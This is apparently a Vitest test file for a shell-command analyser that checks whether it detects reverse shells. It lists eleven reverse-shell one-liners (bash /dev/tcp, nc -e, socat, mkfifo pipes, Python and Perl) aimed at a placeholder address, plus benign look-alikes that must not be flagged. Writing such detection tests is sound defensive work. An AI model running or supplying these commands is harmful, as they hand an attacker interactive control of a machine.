import { expect, test } from 'vitest';
import { follow, only } from './support.js';

test.each([
  ['bash -i >& /dev/tcp/192.0.2.1/99 0>&1'],
  ["bash -c 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1' &"],
  ['exec 5<>/dev/tcp/192.0.2.1/99; sh <&5 >&5 2>&5'],
  ['nc -e /bin/sh 192.0.2.1 99'],
  ['ncat 192.0.2.1 99 --sh-exec /bin/bash'],
  ['mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 99 > /tmp/f'],
  ['mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:99 > /tmp/s'],
  ['telnet 192.0.2.1 99 | /bin/sh | telnet 192.0.2.1 98'],
  ['socat TCP:192.0.2.1:99 EXEC:/bin/bash'],
  [`python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`],
  [`perl -e 'use Socket;socket(S,1,1,6);open(STDIN,">&S");exec("/bin/sh -i");'`],
])('%s', (script) => {
  expect(only(follow(script).facts, 'remote-shell').length).toBeGreaterThan(0);
});

test.each([
  ['timeout 1 bash -c "cat < /dev/null > /dev/tcp/localhost/5432"'],
  ['nc -z localhost 5432'],
  ['bash build.sh | nc logs.example 514'],
  ['ssh me@host.example'],
  ['socat TCP-LISTEN:8080,fork TCP:localhost:80'],
])('no shell is given away: %s', (script) => {
  expect(only(follow(script).facts, 'remote-shell')).toEqual([]);
});
